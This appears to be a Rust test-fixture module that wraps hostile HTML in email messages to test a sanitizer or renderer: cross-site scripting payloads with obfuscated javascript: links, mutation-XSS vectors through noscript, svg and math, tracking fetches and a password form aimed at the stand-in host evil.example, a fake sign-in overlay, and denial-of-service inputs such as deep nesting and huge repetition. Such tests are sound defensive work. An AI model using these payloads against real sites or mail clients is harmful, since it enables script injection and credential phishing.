//! Pages that run, fetch, lie, or cost more than they weigh.

use super::{Case, case, mail};

pub(super) fn all() -> Vec<Case> {
    shown().into_iter().chain(costly()).collect()
}

fn page(page: &str) -> Vec<u8> {
    mail("Content-Type: text/html; charset=utf-8\n", page)
}

/// What is shown of them, and what is not.
fn shown() -> Vec<Case> {
    vec![
        case("script", "runs a script", page("<p>Hi<script>alert(1)</script></p><scr<script>ipt>alert(2)</script>")),
        case("handlers", "runs by being seen", page("<p onmouseover=alert(1)>Hi<img src=x onerror=alert(1)><body onload=alert(1)>")),
        case("links", "leads to what runs", {
            page(
                "<a href=\"javascript:alert(1)\">a</a> <a href=\"java\tscript:alert(1)\">b</a> <a href=\"data:text/html,x\">c</a> \
                 <a href=\"&#106;avascript:alert(1)\">d</a> <a href=\"//evil.example\">e</a> <a href=\"https://good.example/?a=1&amp;b=2\">f</a>",
            )
        }),
        case("fetches", "fetches to tell that it was read", {
            page(
                "Hi<img src=\"https://evil.example/pixel\"><link rel=stylesheet href=//evil.example><style>@import '//evil.example'</style>\
                 <p style=\"background:url(//evil.example)\">x</p><video src=//evil.example></video><iframe src=//evil.example></iframe>\
                 <table background=//evil.example><tr><td>y</table><object data=//evil.example></object><audio src=//evil.example>",
            )
        }),
        case("forms", "asks for a password", page("<form action=//evil.example><input name=password><button>Go</button></form>")),
        case("svg and math", "hides in another language", {
            page("<svg><style><img src=x onerror=alert(1)></style></svg><math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">z")
        }),
        case("mutations", "is another page once it was read", {
            page(
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript><xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">\
                 <form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            )
        }),
        case(
            "comments",
            "hides in comments",
            page("a<!-- x --><!--><img src=x onerror=alert(1)>--><!-->b<!--[if mso]><p>c</p><![endif]-->d"),
        ),
        case("half tags", "does not end what it begins", page("a<b title=\"x>y</b><p>lost")),
        case("no end", "ends in a tag", page("<p>kept <a href=\"https://good.example")),
        case("rejoined", "becomes a tag by what is left out", page("<<x>script>alert(1)<</x>/script><<font>b onclick=alert(1)>x")),
        case("entities", "writes characters by number", page("&lt;script&gt; &amp;lt; &#x202e;turned &#0; &#xD800; &nosuch; &copy; a&b &")),
        case(
            "lays over",
            "lays itself over the desk",
            page("<div style=\"position:fixed;top:0\" class=modal id=app><p>Sign in again</p></div>"),
        ),
        case("layout", "is an honest page", {
            page(
                "<html><head><title>Not shown</title><style>p{}</style></head><body><h1>Hello</h1><p>I <b>really</b> need\nhelp with<br>two \
                 things:</p><ul><li>one</li><li>two</li></ul><table><tr><td>a</td><td>b</td></tr><tr><td>c</td><td>d</td></tr></table>\
                 <pre>  let x = 1;\n  x</pre><div>See <a href=\"https://good.example/x\">the page</a>.</div><hr>\
                 <div>On Monday Help wrote:</div><blockquote><p>Shall we?</p><blockquote>Why?</blockquote></blockquote></body></html>",
            )
        }),
    ]
}

/// What they cost.
fn costly() -> Vec<Case> {
    vec![
        case("many tags", "has more tags than are shown", page(&"<b>x".repeat(10_001))),
        case("deep tags", "lies deeper than is shown", page(&"<div>".repeat(9_999))),
        case(
            "hidden depth",
            "lies deep, and ends tags where they are not open",
            page(&"<div><table><td></div></td></table>".repeat(1_666)),
        ),
        case("opened anew", "opens each tag anew in each paragraph", {
            let open: String = (0..200).map(|n| format!("<b id={n}><i id={n}><u id={n}><s id={n}><em id={n}>")).collect();
            page(&format!("<p>{open}{}", "<p>x".repeat(8_500)))
        }),
        case("wrong nesting", "ends what it began the wrong way round", page(&"<b><i><div></b></i>".repeat(2_000))),
        case("tables", "puts tables where none can be", page(&"<table><b><tr>x<td>".repeat(2_400))),
        case("attributes", "has many attributes", {
            let attributes: String = (0..100_000).map(|n| format!(" a{n}=x")).collect();
            page(&format!("<p{attributes}>Hi"))
        }),
        case("unended tags", "begins tags that do not end", page(&"<a href=\"".repeat(100_000))),
        case("unended comments", "begins comments that do not end", page(&"<!--".repeat(200_000))),
        case("unended scripts", "begins scripts that do not end", page(&"<script></scrip>".repeat(60_000))),
        case("ampersands", "has many ampersands", page(&"&".repeat(900_000))),
        case("large page", "is larger than is shown", page(&"hello ".repeat(200_000))),
    ]
}
